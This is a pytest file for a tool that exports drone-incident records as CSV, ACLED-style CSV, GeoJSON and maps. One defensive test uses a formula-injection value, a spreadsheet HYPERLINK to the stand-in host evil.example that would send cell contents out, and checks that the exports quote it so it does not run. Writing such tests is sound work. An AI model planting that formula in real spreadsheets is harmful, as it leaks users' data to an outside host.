"""CSV, ACLED-style CSV and GeoJSON exports, and the ``export``/``incidents`` commands."""
from __future__ import annotations

import csv
import io
import json

import pytest

from geo import exports
from geo.cli import main
from geo.data.credits import credits
from geo.documents.model import Document
from geo.exports.acled import ACLED_COLUMNS
from geo.filters import Filters
from geo.record import SCHEMA_FIELDS, Incident, validate
from geo.store import open_store

BEL = dict(country="RU", region="RU-BEL", region_name="Belgorod Oblast")


@pytest.fixture
def db(store_url):
    path = store_url
    with open_store(path) as s:
        s.add_document(Document("text a", id="a.txt", title="Article A", url="http://a/1", published="2024-07-22"),
                       [Incident("strike", **BEL, settlement="Shchetinovka", lat=50.4, lon=36.9, geo_precision=1,
                                 date="2024-07-21", count=1, count_qualifier="exact", injured=1, target="truck",
                                 evidence='A drone hit a "Gazelle" truck, injuring the driver.'),
                        Incident("interception", country="RU", region="RU-MOS", region_name="Moscow Oblast",
                                 lat=55.5, lon=37.5, geo_precision=3, date="2024-07-21", count=5,
                                 count_qualifier="exact", evidence="Five drones were intercepted.")])
        s.add_document(Document("text b", id="b.txt", title="Article B", published="2024-07-23"),
                       [Incident("strike", **BEL, settlement="shchetinovka", injured=2, killed=1,
                                 evidence="A truck was hit in Shchetinovka.")])
        s.add_document(Document("text c", id="c.txt"),
                       [Incident("strike", country="RU", evidence="Drones attacked Russia.")])
    return path


def run_cli(args, capsysbinary) -> tuple[int, bytes, str]:
    code = main(args)
    out, err = capsysbinary.readouterr()
    return code, out, err.decode()


def test_csv_has_every_field_one_row_per_incident_and_joined_sources(db, capsysbinary):
    code, out, _ = run_cli(["export", "--format", "csv", "--db", db], capsysbinary)
    rows = list(csv.DictReader(io.StringIO(out.decode("utf-8"))))
    assert code == 0
    assert list(rows[0]) == ["id", *SCHEMA_FIELDS, "n_sources", "sources", "settlement_latin", "claimants",
                             "claim_sides"]
    assert [(r["event_type"], r["n_sources"]) for r in rows] == [("strike", "2"), ("interception", "1"),
                                                                 ("strike", "1")]
    strike = rows[0]
    assert strike["sources"] == "Article A <http://a/1> (2024-07-22) | Article B (2024-07-23)"
    assert strike["evidence"] == 'A drone hit a "Gazelle" truck, injuring the driver.'
    assert (strike["injured"], strike["killed"], strike["date"]) == ("2", "1", "2024-07-21")
    assert rows[2]["sources"] == "c.txt" and rows[2]["lat"] == ""


def test_acled_columns_and_mapping(db, tmp_path, capsysbinary):
    out_file = tmp_path / "acled.csv"
    code, _, err = run_cli(["export", "--format", "acled", "--db", db, "--out", str(out_file)], capsysbinary)
    rows = list(csv.DictReader(io.StringIO(out_file.read_text(encoding="utf-8"))))
    assert code == 0 and "wrote" in err and "3 incidents" in err
    assert list(rows[0]) == list(ACLED_COLUMNS) and len(ACLED_COLUMNS) == 31
    strike, interception, national = rows
    assert (strike["event_type"], strike["sub_event_type"]) == ("Explosions/Remote violence", "Air/drone strike")
    assert (interception["event_type"], interception["sub_event_type"]) == ("Strategic developments",
                                                                            "Disrupted weapons use")
    assert (strike["admin1"], strike["location"], strike["fatalities"]) == ("Belgorod Oblast", "Shchetinovka", "1")
    assert strike["notes"].startswith("Drone strike; 1 drone(s); target: truck")
    assert strike["source"] == "Article A <http://a/1> (2024-07-22); Article B (2024-07-23)"
    assert interception["notes"].startswith("Drone interception; 5 drone(s)")
    assert interception["location"] == "Moscow Oblast" and interception["geo_precision"] == "3"
    assert national["fatalities"] == "0" and national["event_date"] == "" and national["time_precision"] == ""


def test_geojson_features_sources_and_credits(db, capsysbinary):
    code, out, _ = run_cli(["export", "--format", "geojson", "--db", db, "--type", "strike"], capsysbinary)
    data = json.loads(out)
    assert code == 0 and data["type"] == "FeatureCollection"
    assert all(c.split(":")[0] in data["attribution"] for c in credits()) and "GeoNames" in data["attribution"]
    assert [f["properties"]["event_type"] for f in data["features"]] == ["strike", "strike"]
    first, unplaced = data["features"]
    assert first["geometry"] == {"type": "Point", "coordinates": [36.9, 50.4]} and unplaced["geometry"] is None
    props = first["properties"]
    assert validate({k: props[k] for k in SCHEMA_FIELDS}) == []
    assert props["sources"] == [
        {"document": "a.txt", "title": "Article A", "url": "http://a/1", "published": "2024-07-22",
         "evidence": 'A drone hit a "Gazelle" truck, injuring the driver.', "site": None, "outlet": "a",
         "claimant": None},
        {"document": "b.txt", "title": "Article B", "url": None, "published": "2024-07-23",
         "evidence": "A truck was hit in Shchetinovka.", "site": None, "outlet": None, "claimant": None}]
    assert props["id"] == first["id"] and props["n_sources"] == 2


def test_exports_follow_the_filters_like_the_store(db, tmp_path):
    filters = Filters(date_from="2024-07-21", date_to="2024-07-21", regions=("RU-MOS",))
    with open_store(db) as s:
        exports.write("geojson", s, filters, str(tmp_path / "f.geojson"))
        exports.write("csv", s, filters, str(tmp_path / "f.csv"))
        expected = s.query(filters)["id"].tolist()
    features = json.loads((tmp_path / "f.geojson").read_text())["features"]
    assert [f["id"] for f in features] == expected == [2]
    assert len((tmp_path / "f.csv").read_text().splitlines()) == 2


def test_export_errors_are_one_line(db, tmp_path, capsysbinary):
    code, _, err = run_cli(["export", "--format", "csv", "--db", db, "--region", "Atlantis"], capsysbinary)
    assert code == 1 and err.startswith("error: unknown region") and "Traceback" not in err
    code, _, err = run_cli(["export", "--format", "csv", "--db", db, "--from", "2024-13-01"], capsysbinary)
    assert code == 1 and err.startswith("error: bad date filter")
    code, _, err = run_cli(["export", "--format", "csv", "--db", db, "--out", str(tmp_path / "no" / "x.csv")],
                           capsysbinary)
    assert code == 1 and "no such folder" in err


def test_incidents_command_lists_with_filters(db, capsysbinary):
    code, out, err = run_cli(["incidents", "--db", db, "--region", "RU-BEL"], capsysbinary)
    lines = out.decode().splitlines()
    assert code == 0 and lines[0].split() == ["id", "date", "type", "region", "settlement", "count", "sources"]
    assert lines[1].split() == ["1", "2024-07-21", "strike", "RU-BEL", "Shchetinovka", "1", "2"]
    assert len(lines) == 2 and err.startswith("1 incident;")
    code, out, _ = run_cli(["incidents", "--db", db, "--format", "json", "--limit", "2"], capsysbinary)
    rows = [json.loads(line) for line in out.decode().splitlines()]
    assert [r["id"] for r in rows] == [1, 2] and rows[1]["count"] == 5
    code, out, _ = run_cli(["incidents", "--db", db, "--format", "csv", "--text", "GAZELLE"], capsysbinary)
    assert [r["settlement"] for r in csv.DictReader(io.StringIO(out.decode()))] == ["Shchetinovka"]


def test_map_formats_are_dispatched_and_default_to_a_dated_file(db, tmp_path, capsysbinary):
    code, out, err = run_cli(["export", "--format", "html", "--db", db, "--type", "strike"], capsysbinary)
    written = list(tmp_path.glob("atlas-*.html"))
    assert code == 0 and out == b"" and len(written) == 1 and f"wrote {written[0].name}" in err
    assert "Shchetinovka" in written[0].read_text(encoding="utf-8")
    code, _, err = run_cli(["export", "--format", "png", "--db", db, "--metric", "nonsense"], capsysbinary)
    assert code == 1 and err.startswith("error: unknown metric")


def test_reading_commands_refuse_a_missing_store(tmp_path, capsysbinary):
    for command in (["export", "--format", "csv"], ["incidents"]):
        code, _, err = run_cli([*command, "--db", str(tmp_path / "typo.db")], capsysbinary)
        assert code == 1 and err.startswith(f"error: no store at {tmp_path}/typo.db")
        assert not (tmp_path / "typo.db").exists()


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_csv_cells_that_look_like_formulas_are_quoted_not_run(tmp_path, fmt):
    path = str(tmp_path / "f.db")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with open_store(path) as s:
        s.add_document(Document("text f", id="f.txt", title="@SUM(1+1)", published="2024-07-22"),
                       [Incident("strike", **BEL, settlement="+Shchetinovka", target="-truck", date="2024-07-21",
                                 evidence=hostile)])
        text = exports.csv_export.render(s, Filters(), fmt)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    kept = ("'" + hostile) in cells if fmt == "csv" else any(hostile in c for c in cells)  # nothing lost
    assert kept


def test_incidents_command_shows_one_incident_with_each_sources_own_figures(db, capsysbinary):
    code, out, _ = run_cli(["incidents", "--db", db, "--id", "1", "--format", "json"], capsysbinary)
    shown = json.loads(out.decode())
    assert code == 0 and (shown["id"], shown["injured"], shown["killed"], shown["n_sources"]) == (1, 2, 1, 2)
    assert [s["document"] for s in shown["sources"]] == ["a.txt", "b.txt"]
    assert [s["fields"]["injured"] for s in shown["sources"]] == [1, 2]
    assert shown["sources"][0]["evidence"].startswith("A drone hit")
    code, out, _ = run_cli(["incidents", "--db", db, "--id", "1"], capsysbinary)
    text = out.decode()
    assert code == 0 and "source 2: b.txt (2024-07-23)" in text and "killed 1, injured 2" in text
    assert "evidence: A truck was hit in Shchetinovka." in text
    code, _, err = run_cli(["incidents", "--db", db, "--id", "42"], capsysbinary)
    assert code == 1 and "no incident 42" in err


def test_a_settlement_named_in_cyrillic_also_exports_its_latin_spelling(tmp_path):
    from geo.ingest import ingest_documents

    path = str(tmp_path / "ru.db")
    text = "В Шебекине дрон атаковал легковой автомобиль, ранен мужчина, сообщил губернатор Вячеслав Гладков."
    with open_store(path) as s:
        ingest_documents([Document(text, id="ru.txt", published="2025-06-21")], s)
        rows = list(csv.DictReader(io.StringIO(exports.csv_export.render(s, Filters()))))
        features = exports.geojson_export.collection(s, Filters())["features"]
    assert [(r["settlement"], r["settlement_latin"]) for r in rows] == [("Шебекино", "Shebekino")]
    assert [f["properties"]["settlement_latin"] for f in features] == ["Shebekino"]
